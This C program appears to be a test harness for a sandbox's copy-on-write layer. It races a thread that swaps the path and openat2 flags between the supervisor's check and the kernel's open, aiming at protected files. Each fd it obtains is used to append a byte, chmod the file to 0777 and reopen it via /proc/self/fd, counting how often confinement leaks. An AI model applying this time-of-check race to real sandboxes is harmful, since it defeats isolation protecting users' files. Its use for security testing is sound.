// Attack on the copy-on-write layer's untrapped reads: a read-only open of
// a path outside the layer runs without the supervisor, so a thread
// rewrites the path (and openat2's flags) between the supervisor's look
// and the kernel's, towards DIR's file, its placeholder and the state
// directory's lock. Every fd it gets is then used to write what it can;
// opens for writing race the same way. Each write that could reach DIR
// appends one byte, so DIR's file grows by the number of leaks (the test
// reads it after the run). Prints "opens N", how many raced opens
// succeeded.
//
// usage: cow_read_race OUTSIDE DIRFILE UPPERFILE LOCK ROUNDS
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];
static struct open_how how;
static const char *targets[4];
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    unsigned i = 0;
    while (!atomic_load(&stop)) {
        const char *t = targets[1 + i % 3];
        strcpy(path, targets[0]);
        how.flags = O_RDONLY;
        strcpy(path, t);
        how.flags = O_WRONLY | O_APPEND;
        i++;
    }
    return NULL;
}

static int use(int fd) {
    if (fd < 0) return 0;
    if (write(fd, "X", 1) != 1) {
        // A read-only fd: nothing to write through it.
    }
    fchmod(fd, 0777);
    char proc[64];
    snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
    int w = open(proc, O_WRONLY | O_APPEND);
    if (w >= 0) {
        if (write(w, "X", 1) != 1) {
            // Refused: fine.
        }
        close(w);
    }
    close(fd);
    return 1;
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    for (int i = 0; i < 4; i++) targets[i] = argv[1 + i];
    int rounds = atoi(argv[5]);
    strcpy(path, targets[0]);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int opens = 0;
    for (int r = 0; r < rounds; r++) {
        opens += use(open(path, O_RDONLY));
        opens += use(openat(AT_FDCWD, path, O_RDONLY | O_CLOEXEC));
        opens += use(open(path, O_WRONLY | O_APPEND));
        opens += use(syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("opens %d\n", opens);
    return 0;
}
